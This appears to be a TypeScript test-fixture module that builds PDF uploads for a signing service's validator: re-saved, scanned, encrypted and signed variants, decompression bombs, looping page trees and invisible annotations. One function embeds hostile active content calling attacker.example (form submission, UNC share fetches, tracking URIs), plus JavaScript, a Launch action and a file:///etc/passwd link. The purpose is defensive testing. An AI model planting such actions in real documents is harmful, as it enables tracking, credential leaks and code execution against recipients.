// Files a hostile or an ordinary signer uploads, built from our own mandate: signed in each way the service
// accepts, re-saved by other tools, carrying active content, or a bomb inside an otherwise valid file.
import { execFileSync } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import zlib from 'node:zlib';
import {
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFName,
  PDFRawStream,
  PDFString,
  type PDFObject,
  StandardFonts,
  concatTransformationMatrix,
  drawObject,
  popGraphicsState,
  pushGraphicsState,
} from 'pdf-lib';
import sharp from 'sharp';
import { generateSelfSigned } from '../../platform/crypto/dev-certificates';
import { sealPdf } from '../../domain/mandate-document/seal';
import type { Harness } from './harness';
import { png } from '../../bin/stack/sample-images';
import { inkSigned } from './signed-pdf';
import { expect } from 'vitest';
import { party, makeSiren } from '../../bin/stack/sample-parties';
import { createWorkflow, jobWhen, setState, startJob, step } from './jobs';

/** Runs a tool from poppler-utils or qpdf on a file: `args` get the input and output paths. */
export function tool(
  cmd: string,
  pdf: Uint8Array,
  args: (input: string, output: string) => string[],
  outputName = 'out.pdf',
): Buffer {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'hostile-'));
  try {
    const input = path.join(dir, 'in.pdf');
    fs.writeFileSync(input, pdf);
    execFileSync(cmd, args(input, path.join(dir, outputName)));
    return fs.readFileSync(path.join(dir, outputName));
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

export const qpdfResaved = (pdf: Uint8Array) => tool('qpdf', pdf, (i, o) => ['--object-streams=generate', i, o]);
export const cairoRerendered = (pdf: Uint8Array) => tool('pdftocairo', pdf, (i, o) => ['-pdf', i, o]);

/** A representative's digital signature (PAdES) over the mandate. */
export const digitallySigned = (pdf: Uint8Array) =>
  sealPdf(pdf, generateSelfSigned('Élodie Représentante'), {
    name: 'Élodie',
    reason: "J'accepte",
    location: 'Paris',
    contact: '',
  });

export { inkSigned };

/** A signature image placed on the page, as "Fill & Sign" tools that flatten do. */
export async function imageSigned(pdf: Uint8Array): Promise<Uint8Array> {
  const doc = await PDFDocument.load(pdf);
  const img = await doc.embedPng(png(300, 100));
  doc.getPage(doc.getPageCount() - 1).drawImage(img, { x: 330, y: 120, width: 180, height: 60 });
  return doc.save();
}

/** The printed mandate, signed by hand and scanned: each page an image (100 dpi, grey); optionally an OCR text layer. */
export async function scanned(pdf: Uint8Array, ocrText?: string): Promise<Uint8Array> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'scan-'));
  try {
    fs.writeFileSync(path.join(dir, 'in.pdf'), pdf);
    execFileSync('pdftoppm', ['-r', '100', '-gray', '-png', path.join(dir, 'in.pdf'), path.join(dir, 'page')]);
    const doc = await PDFDocument.create();
    const font = await doc.embedFont(StandardFonts.Helvetica);
    for (const file of fs
      .readdirSync(dir)
      .filter((f) => f.endsWith('.png'))
      .sort()) {
      const img = await doc.embedPng(fs.readFileSync(path.join(dir, file)));
      const page = doc.addPage([595.28, 841.89]);
      page.drawImage(img, { x: 0, y: 0, width: 595.28, height: 841.89 });
      // An OCR layer: the recognised text, invisible over the image.
      if (ocrText) page.drawText(ocrText, { x: 56, y: 700, size: 10, font, opacity: 0 });
    }
    return doc.save();
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

/** A page drawing one image XObject (raw stream, our own dictionary) over the whole page. */
export async function pageWithImage(dict: Record<string, unknown>, data: Uint8Array): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const page = doc.addPage([595.28, 841.89]);
  const ref = doc.context.register(
    PDFRawStream.of(doc.context.obj({ Type: 'XObject', Subtype: 'Image', ...dict }) as PDFDict, data),
  );
  const name = page.node.newXObject('Im', ref);
  page.pushOperators(
    pushGraphicsState(),
    concatTransformationMatrix(595.28, 0, 0, 841.89, 0, 0),
    drawObject(name),
    popGraphicsState(),
  );
  return doc.save();
}

/** Zeros, deflated as they stream (never the whole in memory): `mb` megabytes once inflated. */
export async function deflatedZeros(mb: number): Promise<Buffer> {
  const deflate = zlib.createDeflate({ level: 9 });
  const chunks: Buffer[] = [];
  deflate.on('data', (c: Buffer) => chunks.push(c));
  const done = new Promise((r) => deflate.on('end', r));
  const zeros = Buffer.alloc(1024 * 1024);
  for (let i = 0; i < mb; i++) if (!deflate.write(zeros)) await new Promise((r) => deflate.once('drain', r));
  deflate.end();
  await done;
  return Buffer.concat(chunks);
}

/** Appends an incremental update (a new revision) adding `object` as a new object: signatures before it stay valid. */
export function appendObject(pdf: Buffer, object: (num: number) => Buffer): Buffer {
  const tail = pdf.subarray(Math.max(0, pdf.length - 4096)).toString('latin1');
  const trailers = [...pdf.toString('latin1').matchAll(/\/Size (\d+)[\s\S]*?/g)];
  const size = Number(trailers.at(-1)![1]);
  const root = [...pdf.toString('latin1').matchAll(/\/Root (\d+ \d+ R)/g)].at(-1)![1];
  const prev = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(tail)![1]);
  const at = pdf.length + 1;
  const body = Buffer.concat([Buffer.from('\n'), object(size)]);
  const xrefAt = pdf.length + body.length;
  const xref = `xref\n${size} 1\n${String(at).padStart(10, '0')} 00000 n \ntrailer\n<< /Size ${size + 1} /Root ${root} /Prev ${prev} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return Buffer.concat([pdf, body, Buffer.from(xref, 'latin1')]);
}

/** An object holding a Flate stream of `data`; `extra`, more of its dictionary (e.g. /Type /ObjStm). */
export const flateObject =
  (data: Buffer, extra = '') =>
  (num: number) =>
    Buffer.concat([
      Buffer.from(`${num} 0 obj\n<< /Length ${data.length} /Filter /FlateDecode ${extra}>>\nstream\n`, 'latin1'),
      data,
      Buffer.from('\nendstream\nendobj\n'),
    ]);

export type ActiveContent =
  | 'javascript'
  | 'launch'
  | 'embedded-file'
  | 'xfa'
  | 'uri-on-opening'
  | 'submit-form'
  | 'gotor-unc'
  | 'import-data'
  | 'javascript-uri-link'
  | 'file-uri-link'
  | 'uri-on-page-open'
  | 'goto-then-uri';

/** Our mandate with active content of one kind (and an ink signature, so that nothing else refuses it). */
export async function withActiveContent(pdf: Uint8Array, kind: ActiveContent): Promise<Uint8Array> {
  const doc = await PDFDocument.load(await inkSigned(pdf));
  const ctx = doc.context;
  const link = (action: PDFObject) =>
    doc
      .getPage(0)
      .node.addAnnot(ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], A: action })));
  const page0 = doc.getPage(0).ref;
  if (kind === 'uri-on-opening')
    doc.catalog.set(
      PDFName.of('OpenAction'),
      ctx.obj({ S: 'URI', URI: PDFString.of('https://attacker.example/track?m=1') }),
    );
  if (kind === 'submit-form') {
    doc.catalog.set(
      PDFName.of('OpenAction'),
      ctx.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://attacker.example/collect') } }),
    );
  }
  if (kind === 'gotor-unc')
    doc.catalog.set(
      PDFName.of('OpenAction'),
      ctx.obj({ S: 'GoToR', F: PDFString.of('\\\\attacker.example\\share\\x.pdf'), D: [0, 'Fit'] }),
    );
  if (kind === 'import-data') link(ctx.obj({ S: 'ImportData', F: PDFString.of('\\\\attacker.example\\x.fdf') }));
  if (kind === 'javascript-uri-link') link(ctx.obj({ S: 'URI', URI: PDFString.of('javascript:alert(1)') }));
  if (kind === 'file-uri-link') link(ctx.obj({ S: 'URI', URI: PDFString.of('file:///etc/passwd') }));
  if (kind === 'uri-on-page-open')
    doc
      .getPage(0)
      .node.set(PDFName.of('AA'), ctx.obj({ O: { S: 'URI', URI: PDFString.of('https://attacker.example/') } }));
  if (kind === 'goto-then-uri') {
    doc.catalog.set(
      PDFName.of('OpenAction'),
      ctx.obj({ S: 'GoTo', D: [page0, 'Fit'], Next: { S: 'URI', URI: PDFString.of('https://attacker.example/') } }),
    );
  }
  if (kind === 'javascript')
    doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') }));
  if (kind === 'launch') {
    const link = ctx.register(
      ctx.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [56, 56, 200, 80],
        A: { S: 'Launch', F: PDFString.of('calc.exe') },
      }),
    );
    doc.getPage(0).node.addAnnot(link);
  }
  if (kind === 'embedded-file')
    await doc.attach(Buffer.from('MZ not really a program'), 'invoice.exe', { mimeType: 'application/octet-stream' });
  if (kind === 'xfa') {
    const xfa = ctx.register(ctx.stream('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'));
    doc.catalog.set(PDFName.of('AcroForm'), ctx.obj({ Fields: ctx.obj([]) as PDFArray, XFA: xfa }));
  }
  return doc.save();
}

/** Our mandate with a plain web link and an opening action that shows its first page: what ordinary PDFs hold. */
export async function withWebLink(pdf: Uint8Array): Promise<Uint8Array> {
  const doc = await PDFDocument.load(await inkSigned(pdf));
  const ctx = doc.context;
  doc.getPage(0).node.addAnnot(
    ctx.register(
      ctx.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [56, 56, 200, 80],
        A: { S: 'URI', URI: PDFString.of('https://annuaire.example.gouv.fr/') },
      }),
    ),
  );
  doc.catalog.set(PDFName.of('OpenAction'), ctx.obj([doc.getPage(0).ref, PDFName.of('Fit')]));
  return doc.save();
}

/**
 * Our mandate with an Ink or Stamp annotation no reader shows, and nothing else: a Stamp flagged Hidden without
 * appearance, an Ink of no size with no strokes, an Ink flagged NoView, an Ink whose appearance draws nothing, an
 * Ink off the page, an Invisible Stamp with no appearance.
 */
export async function withUnseenAnnotation(
  pdf: Uint8Array,
  kind: 'hidden-stamp' | 'empty-ink' | 'noview-ink' | 'blank-appearance' | 'off-page-ink' | 'invisible-stamp',
): Promise<Uint8Array> {
  const doc = await PDFDocument.load(pdf);
  const ctx = doc.context;
  const strokes = [[330, 130, 400, 170, 500, 140]];
  const appearance = (content: string) =>
    ctx.register(ctx.stream(content, { Type: 'XObject', Subtype: 'Form', BBox: [320, 120, 520, 180] }));
  const annot = {
    'hidden-stamp': { Subtype: 'Stamp', Rect: [330, 120, 530, 180], F: 2 },
    'empty-ink': { Subtype: 'Ink', Rect: [0, 0, 0, 0], InkList: [] },
    'noview-ink': {
      Subtype: 'Ink',
      Rect: [320, 120, 520, 180],
      F: 32,
      InkList: strokes,
      AP: { N: appearance('330 130 m 500 140 l S') },
    },
    'blank-appearance': {
      Subtype: 'Ink',
      Rect: [320, 120, 520, 180],
      InkList: strokes,
      AP: { N: appearance('q 0 0 1 rg Q') },
    },
    'off-page-ink': { Subtype: 'Ink', Rect: [-5320, -5120, -5120, -5060], InkList: [[-5310, -5110, -5130, -5070]] },
    'invisible-stamp': { Subtype: 'Stamp', Rect: [330, 120, 530, 180], F: 1, Name: 'Approved' },
  }[kind];
  doc.getPage(doc.getPageCount() - 1).node.addAnnot(ctx.register(ctx.obj({ Type: 'Annot', ...annot })));
  return doc.save();
}

/** Our mandate (with an ink signature) with `times` inline images of `head` parameters, in a content stream of its own. */
export async function withInlineImage(pdf: Uint8Array, head: string, times = 1): Promise<Uint8Array> {
  const doc = await PDFDocument.load(await inkSigned(pdf));
  const image = Buffer.concat([Buffer.from(`BI ${head} ID `), new Uint8Array(16), Buffer.from('\nEI ')]);
  const body = Buffer.concat([
    Buffer.from('q 200 0 0 60 330 120 cm '),
    ...Array.from({ length: times }, () => image),
    Buffer.from('Q\n'),
  ]);
  doc.getPage(0).node.addContentStream(doc.context.register(PDFRawStream.of(doc.context.obj({}) as PDFDict, body)));
  return doc.save();
}

/**
 * Our mandate (with an ink signature) with `times` inline images each begun in one content stream of the page and
 * ended in the next (a reader reads a page's streams as one): no stream alone holds a whole image.
 */
export async function withSplitInlineImages(
  pdf: Uint8Array,
  head: [string, string],
  times: number,
): Promise<Uint8Array> {
  const doc = await PDFDocument.load(await inkSigned(pdf));
  for (let n = 0; n < times; n++) {
    for (const part of [`q 200 0 0 60 330 120 cm BI ${head[0]}`, `${head[1]} ID \x00\nEI Q`]) {
      doc
        .getPage(0)
        .node.addContentStream(
          doc.context.register(PDFRawStream.of(doc.context.obj({}) as PDFDict, Buffer.from(part, 'latin1'))),
        );
    }
  }
  return doc.save();
}

/** Our mandate (with an ink signature) whose page tree loops: the root's kids hold the root. */
export async function withPageTreeLoop(pdf: Uint8Array): Promise<Uint8Array> {
  const doc = await PDFDocument.load(await inkSigned(pdf));
  const root = doc.catalog.lookup(PDFName.of('Pages'), PDFDict);
  root.lookup(PDFName.of('Kids'), PDFArray).push(doc.catalog.get(PDFName.of('Pages'))!);
  return doc.save({ addDefaultPage: false }); // counting the pages would loop here too
}

/** Our mandate (with an ink signature), encrypted with a password to open it (AES-256, by qpdf). */
export const passwordProtected = async (pdf: Uint8Array) =>
  tool('qpdf', await inkSigned(pdf), (i, o) => ['--encrypt', 'secret', 'owner-secret', '256', '--', i, o]);

/** A 12-megapixel phone photo (4032 × 3024 JPEG) of something card-like, under 4 MB. */
export async function phonePhoto(): Promise<Buffer> {
  return sharp({
    create: {
      width: 4032,
      height: 3024,
      channels: 3,
      background: '#d8dde6',
      noise: { type: 'gaussian', mean: 128, sigma: 12 },
    },
  })
    .jpeg({ quality: 80 })
    .toBuffer();
}

/**
 * Posts `send` while pinging the API; returns the answer, how many pings came back before it (the slowest, the
 * median), and the API's worst event-loop delay meanwhile (the API runs in this process).
 */
export async function whilePinging<T>(h: Harness, send: () => Promise<T>) {
  const delay = monitorEventLoopDelay({ resolution: 10 });
  delay.enable();
  let answered = false;
  let pingsBefore = 0;
  let slowestPingMs = 0;
  const pingMs: number[] = [];
  const pinger = (async () => {
    while (!answered) {
      const t = performance.now();
      const r = await fetch(`${h.baseUrl}/utils/v1/ping`);
      await r.arrayBuffer();
      if (!answered && r.ok) {
        pingsBefore++;
        pingMs.push(performance.now() - t);
        slowestPingMs = Math.max(slowestPingMs, performance.now() - t);
      }
      await new Promise((res) => setTimeout(res, 5));
    }
  })();
  const t0 = performance.now();
  const result = await send();
  const tookMs = performance.now() - t0;
  answered = true;
  await pinger;
  delay.disable();
  const medianPingMs = pingMs.sort((a, b) => a - b)[Math.floor(pingMs.length / 2)] ?? 0;
  return { result, pingsBefore, slowestPingMs, medianPingMs, maxDelayMs: delay.max / 1e6, tookMs };
}

export const sha256 = (b: Uint8Array) => crypto.createHash('sha256').update(b).digest('hex');

/** A party whose registration waits for its signature, and the mandate it was issued (number from its title). */
export async function parked(h: Harness) {
  const entryId = crypto.randomUUID();
  expect((await h.api('PUT', `/silo/v1/entries/${entryId}`, { data: party(makeSiren()) })).status).toBe(200);
  const wf = await createWorkflow(h, [
    step('gov-fr.agreement.sign'),
    setState('processing'),
    step('gov-fr.agreement.wait.approval'),
    setState('completed'),
  ]);
  await jobWhen(h, await startJob(h, wf, entryId), ['WAIT']);
  const res = await fetch(`${h.baseUrl}/apps/gov-fr/v1/entry/${entryId}/agreement`, {
    headers: { authorization: `Bearer ${h.apiKey}` },
  });
  const mandate = Buffer.from(await res.arrayBuffer());
  const number = (await PDFDocument.load(mandate)).getTitle()!.replace('Mandat ', '');
  return { entryId, mandate, number };
}
